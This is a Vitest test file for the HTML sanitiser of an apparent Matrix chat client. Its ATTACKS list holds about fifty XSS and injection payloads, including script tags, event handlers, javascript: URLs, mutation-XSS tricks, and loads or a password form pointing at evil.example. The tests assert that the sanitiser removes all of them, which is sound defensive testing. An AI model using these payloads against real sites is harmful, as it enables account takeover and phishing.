import { expect, test } from "vitest";

import { isJustEmoji, linkify, readMatrixLink, sanitise } from "./sanitise";

const me = "@ada:example.org";

/** What people have tried to get past sanitisers with. None may leave anything that runs, loads or hides. */
const ATTACKS = [
  "<script>alert(1)</script>x",
  "x<script src=https://evil.example/x.js></script>",
  "<img src=x onerror=alert(1)>x",
  "<IMG SRC=\"javascript:alert('XSS');\">x",
  '<img src="https://evil.example/pixel.png">x',
  "<svg onload=alert(1)>x</svg>y",
  "<svg><script>alert(1)</script></svg>x",
  "<svg><animate onbegin=alert(1) attributeName=x dur=1s>x",
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">x',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="https://ok.example" onclick="alert(1)">x</a>',
  '<a href="https://ok.example" style="position:fixed;inset:0">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;background:#000">x</div>',
  '<iframe src="https://evil.example"></iframe>x',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>x',
  '<object data="https://evil.example/x.swf"></object>x',
  '<embed src="https://evil.example/x.swf">x',
  '<form action="https://evil.example"><input name=password><button>x</button></form>',
  "<input autofocus onfocus=alert(1)>x",
  "<details open ontoggle=alert(1)>x</details>",
  "<video><source onerror=alert(1)></video>x",
  "<audio src=x onerror=alert(1)></audio>x",
  "<body onload=alert(1)>x",
  '<base href="https://evil.example/">x',
  '<meta http-equiv=refresh content="0;url=https://evil.example">x',
  '<link rel=stylesheet href="https://evil.example/x.css">x',
  "<style>*{display:none}</style>x",
  "<template><img src=x onerror=alert(1)></template>x",
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">x',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">x',
  '<p id="root" name="location">x</p>',
  "<form id=x><input id=attributes></form>x",
  '<span class="MuiDialog-root o-fixed">x</span>',
  '<code class="language-js evil fixed">x</code>',
  '<a class="pill pill-me" data-matrix="@evil:example.org" href="https://evil.example">x</a>',
  '<div data-composer="!room" data-item-key="x" role="dialog" aria-live="assertive">x</div>',
  '<xss style="behavior:url(x.htc)">x</xss>',
  '<a href="https://ok.example" target="_top" ping="https://evil.example">x</a>',
  "<<script>script>alert(1)<</script>/script>x",
  "<mx-reply><script>alert(1)</script></mx-reply>x",
  '<table background="javascript:alert(1)"><tr><td>x</td></tr></table>',
  "<select><option onclick=alert(1)>x</option></select>",
  "<marquee onstart=alert(1)>x</marquee>",
  "<p><b><i><a href='https://ok.example'><svg/onload=alert(1)>x</a></i></b></p>",
];

const ALLOWED = new Set([
  "href",
  "class",
  "target",
  "rel",
  "start",
  "tabindex",
  "role",
  "aria-pressed",
  "data-matrix",
  "data-event",
  "data-mx-spoiler",
]);

test.each(ATTACKS)("nothing of an attack is left: %s", (attack) => {
  const holder = document.createElement("div");
  holder.innerHTML = sanitise(attack, me) ?? "";
  expect(
    holder.querySelector(
      "script,style,iframe,object,embed,svg,math,img,video,audio,form,input,button,textarea,select,base,link,meta,template,noscript,marquee",
    ),
  ).toBeNull();
  for (const element of holder.querySelectorAll("*")) {
    for (const { name, value } of element.attributes) {
      expect(ALLOWED.has(name), `${name}="${value}"`).toBe(true);
      expect(value).not.toMatch(/javascript:|vbscript:|data:/i);
    }
    for (const name of element.classList)
      expect(name).toMatch(/^(pill|pill-user|pill-room|pill-me|spoiler|language-.+)$/);
    // What acts for us is only ever put there by us.
    if (element.hasAttribute("data-matrix"))
      expect(readMatrixLink(element.getAttribute("href") ?? "")).not.toBeNull();
  }
});

test("what the specification allows stays", () => {
  expect(
    sanitise(
      "<h2>T</h2><p><strong>a</strong> <em>b</em> <del>c</del></p><ul><li>d</li></ul><blockquote>e</blockquote>",
      me,
    ),
  ).toBe(
    "<h2>T</h2><p><strong>a</strong> <em>b</em> <del>c</del></p><ul><li>d</li></ul><blockquote>e</blockquote>",
  );
  expect(sanitise('<pre><code class="language-rust">let x;</code></pre>', me)).toBe(
    '<pre tabindex="0"><code class="language-rust">let x;</code></pre>',
  );
});

test("the repeated message of an old reply is left out", () => {
  expect(sanitise("<mx-reply><blockquote>old</blockquote></mx-reply>new", me)).toBe("new");
});

test("links leave safely, people and rooms become pills", () => {
  expect(sanitise('<a href="https://example.org">x</a>', me)).toContain('rel="noopener noreferrer nofollow"');
  expect(sanitise('<a href="https://matrix.to/#/@ben:example.org">Ben</a>', me)).toContain(
    'class="pill pill-user" data-matrix="@ben:example.org"',
  );
  expect(sanitise('<a href="https://matrix.to/#/%40ada%3Aexample.org">Ada</a>', me)).toContain("pill-me");
  expect(readMatrixLink("matrix:roomid/abc:example.org/e/def")).toEqual({
    kind: "room",
    id: "!abc:example.org",
    eventId: "$def",
  });
  expect(readMatrixLink("https://matrix.to/#/%E0%A4%A")).toBeNull();
});

test("too deep or too long is shown as its plain text", () => {
  expect(sanitise("<div>".repeat(150) + "x", me)).toBeNull();
  expect(sanitise("x".repeat(200_001), me)).toBeNull();
});

test("addresses in plain text end where the sentence goes on", () => {
  expect(linkify("See https://a.example/x_(y)). Or www.b.example!").filter((part) => part.href)).toEqual([
    { text: "https://a.example/x_(y)", href: "https://a.example/x_(y)" },
    { text: "www.b.example", href: "https://www.b.example" },
  ]);
  expect(linkify("nothing here")).toEqual([{ text: "nothing here", href: null }]);
});

test("a few emoji alone are drawn large, numbers and words are not", () => {
  expect(isJustEmoji("👍🏽 🎉")).toBe(true);
  expect(isJustEmoji("👩‍👩‍👧‍👦")).toBe(true);
  expect(isJustEmoji("12")).toBe(false);
  expect(isJustEmoji("ok 👍")).toBe(false);
});
